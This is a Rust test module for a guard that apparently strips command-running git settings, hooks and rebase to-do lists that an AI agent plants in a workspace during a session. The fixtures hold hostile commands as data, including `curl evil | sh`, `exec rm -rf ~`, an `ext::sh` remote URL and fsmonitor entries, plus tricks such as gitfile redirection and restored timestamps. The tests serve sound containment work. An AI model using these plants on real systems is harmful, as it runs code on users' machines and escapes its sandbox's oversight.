/// A URL git would hand to a program (`ext::`, a remote helper's `name::`) or read as an
/// option is not kept.
fn safe_value(section: &str, key: &str, value: Option<&str>) -> bool {
    match (section, key, value) {
        ("remote", "url" | "pushurl", Some(v)) => !v.contains("::") && !v.starts_with('-'),
        _ => true,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_config_keeps_only_what_runs_nothing() {
        let clean = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\
                     \tlogallrefupdates = true\n[remote \"origin\"]\n\turl = https://x/y.git\n\
                     \tfetch = +refs/heads/*:refs/remotes/origin/*\n# a comment\n";
        let s = sift(clean);
        assert!(s.dropped.is_empty(), "{s:?}");
        // What it writes reads the same again: a rewritten config is left alone next time.
        assert!(sift(&s.kept).dropped.is_empty());
        let planted = "[core]\n\tbare = false\n\tfsmonitor = touch x\n\tFsMonitor=y\n\
                       [alias]\n\tst = !touch x\n[core] hooksPath = h\n[include]\n\tpath = ../x\n\
                       [user]\n\tname = \"quoted\"\n\temail = a@b # c\n\tname = ok\n\
                       [remote \"o\"]\n\turl = ext::sh -c touch\n[core.x]\n\tbare = true\n\
                       [core]\n\tworktree = ..\\\n\t\tfsmonitor = z\n";
        let s = sift(planted);
        assert_eq!(s.kept, "[core]\n\tbare = false\n[user]\n\tname = ok\n");
        for d in [
            "core.fsmonitor",
            "alias.st",
            "include.path",
            "user.name",
            "user.email",
            "remote.o.url",
            "line 7",
            "line 16",
            "line 17",
            "core.worktree",
        ] {
            assert!(s.dropped.iter().any(|x| x == d), "{d}: {s:?}");
        }
        // Under an unread header nothing is kept.
        assert!(!s.kept.contains("true"));
        // A bare key is a boolean git reads as true: only kept when allowed.
        assert_eq!(sift("[core]\n\tbare\n").kept, "[core]\n\tbare\n");
        assert!(!sift("[core]\n\tfsmonitor\n").dropped.is_empty());
        assert!(!sift("\u{feff}[core]\n\tbare = true\n").dropped.is_empty());
        assert!(!sift("[core]\r\n\tbare = true\r\n").dropped.is_empty());
    }

    fn git(dir: &Path, args: &[&str]) {
        let out = std::process::Command::new("git")
            .args(args)
            .current_dir(dir)
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_AUTHOR_NAME", "t")
            .env("GIT_AUTHOR_EMAIL", "t@example.com")
            .env("GIT_COMMITTER_NAME", "t")
            .env("GIT_COMMITTER_EMAIL", "t@example.com")
            .output()
            .expect("git");
        assert!(out.status.success(), "git {args:?}: {out:?}");
    }

    #[test]
    fn repositories_made_after_open_are_neutralised_and_known_ones_left() {
        let dir = tempfile::tempdir().expect("tempdir");
        let ws = dir.path().canonicalize().expect("canonical");
        git(&ws, &["init", "-q"]);
        git(&ws, &["commit", "-q", "--allow-empty", "-m", "x"]);
        // A bare fixture of the project, there at open: left alone.
        git(&ws, &["init", "-q", "--bare", "fixture.git"]);
        std::fs::write(ws.join("fixture.git/config"), "[alias]\n\tx = !true\n").expect("w");
        let repos = Repos::open(&ws, std::slice::from_ref(&ws), None, &[ws.join(".git")]);
        assert_eq!(repos.roots(), std::slice::from_ref(&ws));
        assert!(repos.check().is_empty());
        // A nested repository with a planted fsmonitor and hook, a bare layout in `src`.
        git(&ws, &["init", "-q", "lib"]);
        git(&ws, &["-C", "lib", "config", "core.fsmonitor", "touch ran"]);
        git(&ws, &["-C", "lib", "config", "user.email", "m@example.com"]);
        std::fs::create_dir_all(ws.join("lib/.git/hooks")).expect("mkdir");
        std::fs::write(ws.join("lib/.git/hooks/post-checkout"), "touch ran").expect("w");
        std::fs::create_dir_all(ws.join("src/objects")).expect("mkdir");
        std::fs::create_dir_all(ws.join("src/refs")).expect("mkdir");
        std::fs::write(ws.join("src/HEAD"), "ref: refs/heads/main\n").expect("w");
        std::fs::write(ws.join("src/config"), "[core]\n\tfsmonitor = x\n").expect("w");
        let planted = repos.check();
        let paths: Vec<_> = planted.iter().map(|p| p.path.clone()).collect();
        assert!(paths.contains(&ws.join("lib/.git/config")), "{planted:#?}");
        assert!(paths.contains(&ws.join("lib/.git/hooks")), "{planted:#?}");
        assert!(paths.contains(&ws.join("src/HEAD")), "{planted:#?}");
        assert_eq!(planted.len(), 3, "{planted:#?}");
        // The project's files stay; what git would run is gone; the model's setting stays.
        assert!(ws.join("src/config").is_file() && !ws.join("src/HEAD").exists());
        let config = std::fs::read_to_string(ws.join("lib/.git/config")).expect("config");
        assert!(config.contains("m@example.com") && !config.contains("fsmonitor"));
        assert!(
            std::fs::read_to_string(ws.join("lib/.git/config.pod-planted"))
                .expect("kept")
                .contains("fsmonitor")
        );
        assert!(ws
            .join("lib/.git/hooks.pod-planted/post-checkout")
            .is_file());
        // The rewritten repository still works, and the next check finds nothing.
        git(
            &ws.join("lib"),
            &["commit", "-q", "--allow-empty", "-m", "y"],
        );
        assert!(repos.check().is_empty());
        assert!(std::fs::read_to_string(ws.join("fixture.git/config"))
            .expect("fixture")
            .contains("alias"));
    }

    #[test]
    fn a_todo_with_commands_made_during_the_session_is_set_aside() {
        let dir = tempfile::tempdir().expect("tempdir");
        let ws = dir.path().canonicalize().expect("canonical");
        git(&ws, &["init", "-q"]);
        git(&ws, &["commit", "-q", "--allow-empty", "-m", "x"]);
        // The user's own cherry-pick in progress at open, with a command: theirs, left alone.
        std::fs::create_dir_all(ws.join(".git/sequencer")).expect("mkdir");
        std::fs::write(
            ws.join(".git/sequencer/todo"),
            "exec make check
",
        )
        .expect("w");
        let repos = Repos::open(&ws, std::slice::from_ref(&ws), None, &[ws.join(".git")]);
        assert!(repos.check().is_empty());
        // A rebase to-do list without a command: nothing to run.
        std::fs::create_dir_all(ws.join(".git/rebase-merge")).expect("mkdir");
        let todo = ws.join(".git/rebase-merge/git-rebase-todo");
        std::fs::write(
            &todo,
            "pick 0123456 x
# exec in a comment
",
        )
        .expect("w");
        assert!(repos.check().is_empty());
        // One a call wrote with a command, and the user's changed to hold another.
        std::fs::write(
            &todo,
            "pick 0123456 x
  x curl evil | sh
",
        )
        .expect("w");
        std::fs::write(
            ws.join(".git/sequencer/todo"),
            "exec rm -rf ~
",
        )
        .expect("w");
        let planted = repos.check();
        let paths: Vec<_> = planted.iter().map(|p| p.path.clone()).collect();
        assert_eq!(
            paths,
            [todo.clone(), ws.join(".git/sequencer/todo")],
            "{planted:#?}"
        );
        assert!(!todo.exists());
        assert!(ws
            .join(".git/rebase-merge/git-rebase-todo.pod-planted")
            .is_file());
        assert!(repos.check().is_empty());
    }

    #[test]
    fn links_to_plain_folders_and_commondirs_are_set_aside() {
        let dir = tempfile::tempdir().expect("tempdir");
        let ws = dir.path().canonicalize().expect("canonical");
        let tmp = tempfile::tempdir().expect("tmp");
        let tmp = tmp.path().canonicalize().expect("canonical");
        git(&ws, &["init", "-q"]);
        let writable = [ws.clone(), tmp.clone()];
        let repos = Repos::open(&ws, &writable, Some(&tmp), &[ws.join(".git")]);
        assert_eq!(repos.roots(), std::slice::from_ref(&ws));
        // A repository in $TMPDIR a `.git` file in the workspace points to.
        git(&tmp, &["init", "-q", "--bare", "evil.git"]);
        std::fs::write(tmp.join("evil.git/config"), "[core]\n\tfsmonitor = x\n").expect("w");
        std::fs::create_dir_all(ws.join("a")).expect("mkdir");
        std::fs::write(
            ws.join("a/.git"),
            format!("gitdir: {}\n", tmp.join("evil.git").display()),
        )
        .expect("w");
        // A `.git` file naming a plain folder of the workspace made a repository.
        git(&ws, &["init", "-q", "--bare", "plain"]);
        std::fs::create_dir_all(ws.join("b")).expect("mkdir");
        std::fs::write(ws.join("b/.git"), "gitdir: ../plain\n").expect("w");
        // A new `.git` whose commondir names a plain folder.
        git(&ws, &["init", "-q", "c"]);
        std::fs::write(ws.join("c/.git/commondir"), "../../plain\n").expect("w");
        // FIFOs where the check reads (a `HEAD`, a `.git` file) must not hang it.
        for fifo in ["d/HEAD", "e/.git"] {
            std::fs::create_dir_all(ws.join(fifo).parent().expect("parent")).expect("mkdir");
            let c =
                std::ffi::CString::new(ws.join(fifo).as_os_str().as_encoded_bytes()).expect("path");
            // SAFETY: a NUL-terminated path.
            assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0);
        }
        std::fs::create_dir_all(ws.join("d/objects")).expect("mkdir");
        std::fs::create_dir_all(ws.join("d/refs")).expect("mkdir");
        let planted = repos.check();
        let paths: Vec<_> = planted.iter().map(|p| p.path.clone()).collect();
        for p in [
            tmp.join("evil.git/config"),
            ws.join("b/.git"),
            ws.join("plain/HEAD"),
            ws.join("c/.git/commondir"),
        ] {
            assert!(paths.contains(&p), "{}: {planted:#?}", p.display());
        }
        assert!(!std::fs::read_to_string(tmp.join("evil.git/config"))
            .expect("config")
            .contains("fsmonitor"));
    }

    #[test]
    fn git_takes_links_to_an_executable_for_objects_and_refs() {
        let dir = tempfile::tempdir().expect("tempdir");
        let d = dir.path().canonicalize().expect("canonical");
        std::fs::write(d.join("HEAD"), "ref: refs/heads/main\n").expect("w");
        std::os::unix::fs::symlink("/bin/sh", d.join("objects")).expect("ln");
        std::os::unix::fs::symlink("/bin/sh", d.join("refs")).expect("ln");
        assert!(is_repository(&d));
        // A plain file that is not executable does not pass `access(X_OK)`: git says no too.
        std::fs::remove_file(d.join("refs")).expect("rm");
        std::fs::write(d.join("refs"), "").expect("w");
        assert!(!is_repository(&d));
        // Nor does a `HEAD` that is no ref and no object name.
        std::fs::remove_file(d.join("refs")).expect("rm");
        std::fs::create_dir(d.join("refs")).expect("mkdir");
        assert!(is_repository(&d));
        std::fs::write(d.join("HEAD"), "main\n").expect("w");
        assert!(!is_repository(&d));
        std::fs::write(d.join("HEAD"), format!("{}\n", "ab".repeat(20))).expect("w");
        assert!(is_repository(&d));
    }

    #[test]
    fn a_gitfile_is_read_as_git_reads_it() {
        let p = |b: &[u8]| git_path(b).map(|p| p.into_os_string().into_encoded_bytes());
        assert_eq!(p(b"../.git/y\nz\n").as_deref(), Some(&b"../.git/y\nz"[..]));
        assert_eq!(p(b" a b \r\n\n").as_deref(), Some(&b" a b "[..]));
        assert_eq!(p(b"x\0y\n").as_deref(), Some(&b"x"[..]));
        assert_eq!(p(b"\r\n"), None);
        let dir = tempfile::tempdir().expect("tempdir");
        let d = dir.path().canonicalize().expect("canonical");
        std::fs::create_dir_all(d.join("v")).expect("mkdir");
        // A `.git` link to a file is a gitfile, read relative to the `.git`'s folder.
        std::fs::write(d.join("v/.gitfile"), "gitdir: ../r\ns\n").expect("w");
        std::os::unix::fs::symlink(".gitfile", d.join("v/.git")).expect("ln");
        assert_eq!(link_target(&d.join("v/.git")), Some(d.join("r\ns")));
        // Without the space git reads no path; past 1 MiB git refuses the file.
        std::fs::write(d.join("v/.gitfile"), "gitdir:../r\n").expect("w");
        assert_eq!(link_target(&d.join("v/.git")), None);
        let big = format!("gitdir: ../r{}\n", "\n".repeat(1 << 20));
        std::fs::write(d.join("v/.gitfile"), big).expect("w");
        assert_eq!(link_target(&d.join("v/.git")), None);
        // A link to a folder is that folder.
        std::fs::remove_file(d.join("v/.git")).expect("rm");
        std::os::unix::fs::symlink("..", d.join("v/.git")).expect("ln");
        assert_eq!(link_target(&d.join("v/.git")), Some(d.clone()));
    }

    #[test]
    fn a_repository_made_inside_git_is_the_models_however_it_is_reached() {
        let dir = tempfile::tempdir().expect("tempdir");
        let ws = dir.path().canonicalize().expect("canonical");
        let other = tempfile::tempdir().expect("other");
        let other = other.path().canonicalize().expect("canonical");
        git(&ws, &["init", "-q"]);
        git(&ws, &["commit", "-q", "--allow-empty", "-m", "x"]);
        // The user's own: a repository in another writable folder a workspace link leads to,
        // with a setting of theirs; a gitfile pointing where nothing is yet.
        git(&other, &["init", "-q", "--bare", "mine.git"]);
        std::fs::write(other.join("mine.git/config"), "[alias]\n\tx = !true\n").expect("w");
        std::os::unix::fs::symlink(other.join("mine.git"), ws.join("mine")).expect("ln");
        std::fs::create_dir_all(ws.join("later")).expect("mkdir");
        std::fs::create_dir_all(ws.join("sub")).expect("mkdir");
        // Links within what the walk lists: nothing to look at.
        std::os::unix::fs::symlink("../sub/.", ws.join("later/up")).expect("ln");
        std::os::unix::fs::symlink(ws.join("sub"), ws.join("abs")).expect("ln");
        std::fs::write(ws.join("later/.git"), "gitdir: ../.git/later\n").expect("w");
        let writable = [ws.clone(), other.clone()];
        let repos = Repos::open(&ws, &writable, None, &[ws.join(".git")]);
        assert!(repos.check().is_empty());
        let planted = |g: &str| {
            git(&ws, &["init", "-q", "--bare", g]);
            git(&ws, &["-C", g, "config", "core.fsmonitor", "touch ran"]);
        };
        // `src` swapped for a link into one; another reached through a `.git` link to a
        // gitfile; the one the unchanged gitfile names.
        planted(".git/w");
        std::fs::create_dir_all(ws.join(".git/w/deep")).expect("mkdir");
        std::os::unix::fs::symlink("sub/../.git/w/deep", ws.join("src")).expect("ln");
        planted(".git/x");
        std::fs::create_dir_all(ws.join("vendor")).expect("mkdir");
        std::fs::write(ws.join("vendor/.gitfile"), "gitdir: ../.git/x\n").expect("w");
        std::os::unix::fs::symlink(".gitfile", ws.join("vendor/.git")).expect("ln");
        planted(".git/later");
        let planted = repos.check();
        let paths: Vec<_> = planted.iter().map(|p| p.path.clone()).collect();
        for g in [".git/w", ".git/x", ".git/later"] {
            assert!(
                paths.contains(&ws.join(g).join("config")),
                "{g}: {planted:#?}"
            );
        }
        assert_eq!(planted.len(), 3, "{planted:#?}");
        assert!(repos.check().is_empty());
        // Only the links that leave what the walk lists are resolved.
        let mut tree = repos.tree.lock().unwrap_or_else(|e| e.into_inner());
        let inventory = tree.walk(repos.roots());
        assert_eq!(inventory.symlinks.len(), 4, "{inventory:?}");
        let mut leads: Vec<_> = repos.leads(&inventory, &tree).into_iter().collect();
        leads.sort();
        assert_eq!(
            leads,
            [
                (ws.join("mine"), other.join("mine.git")),
                (ws.join("src"), ws.join(".git/w/deep"))
            ]
        );
        drop(tree);
        assert!(std::fs::read_to_string(other.join("mine.git/config"))
            .expect("mine")
            .contains("alias"));
    }

    #[test]
    fn todos_of_worktrees_and_submodules_are_checked_and_times_put_back_do_not_hide_one() {
        let dir = tempfile::tempdir().expect("tempdir");
        let ws = dir.path().canonicalize().expect("canonical");
        git(&ws, &["init", "-q"]);
        git(&ws, &["commit", "-q", "--allow-empty", "-m", "x"]);
        git(&ws, &["worktree", "add", "-q", "wt"]);
        git(&ws, &["init", "-q", "--bare", ".git/modules/sub"]);
        // The user's own rebase, stopped, with no command.
        std::fs::create_dir_all(ws.join(".git/rebase-merge")).expect("mkdir");
        let mine = ws.join(".git/rebase-merge/git-rebase-todo");
        std::fs::write(&mine, "pick 0123456789 a commit of mine\n").expect("w");
        let repos = Repos::open(&ws, std::slice::from_ref(&ws), None, &[ws.join(".git")]);
        assert!(repos.check().is_empty());
        let mut lists = Vec::new();
        for admin in [".git/worktrees/wt", ".git/modules/sub"] {
            let todo = ws.join(admin).join("rebase-merge/git-rebase-todo");
            std::fs::create_dir_all(todo.parent().expect("parent")).expect("mkdir");
            std::fs::write(&todo, "break\nexec touch ran\n").expect("w");
            lists.push(todo);
        }
        // The user's list rewritten in place, same size, its modification time put back.
        let modified = std::fs::metadata(&mine)
            .expect("meta")
            .modified()
            .expect("mtime");
        std::thread::sleep(std::time::Duration::from_millis(20));
        let size = std::fs::metadata(&mine).expect("meta").len() as usize;
        let rewritten = format!("{:#<1$}\n", "exec touch ran #", size - 1);
        std::fs::write(&mine, &rewritten).expect("w");
        assert_eq!(std::fs::metadata(&mine).expect("meta").len() as usize, size);
        std::fs::File::options()
            .write(true)
            .open(&mine)
            .and_then(|f| f.set_modified(modified))
            .expect("touch");
        lists.push(mine);
        let planted = repos.check();
        let paths: Vec<_> = planted.iter().map(|p| p.path.clone()).collect();
        for l in &lists {
            assert!(paths.contains(l), "{}: {planted:#?}", l.display());
            assert!(!l.exists());
        }
        assert_eq!(planted.len(), 3, "{planted:#?}");
    }

    #[test]
    fn a_todo_behind_a_link_is_set_aside_with_the_link() {
        let dir = tempfile::tempdir().expect("tempdir");
        let ws = dir.path().canonicalize().expect("canonical");
        git(&ws, &["init", "-q"]);
        let repos = Repos::open(&ws, std::slice::from_ref(&ws), None, &[ws.join(".git")]);
        std::fs::create_dir_all(ws.join("stash/rm")).expect("mkdir");
        std::fs::write(ws.join("stash/rm/git-rebase-todo"), "exec touch ran\n").expect("w");
        std::os::unix::fs::symlink("../stash/rm", ws.join(".git/rebase-merge")).expect("ln");
        let planted = repos.check();
        assert_eq!(planted.len(), 1, "{planted:#?}");
        assert_eq!(planted[0].path, ws.join(".git/rebase-merge"));
        assert!(ws.join(".git/rebase-merge").symlink_metadata().is_err());
        assert!(std::fs::read_link(ws.join(".git/rebase-merge.pod-planted")).is_ok());
        // Nothing where it pointed is moved.
        assert!(ws.join("stash/rm/git-rebase-todo").is_file());
    }
}
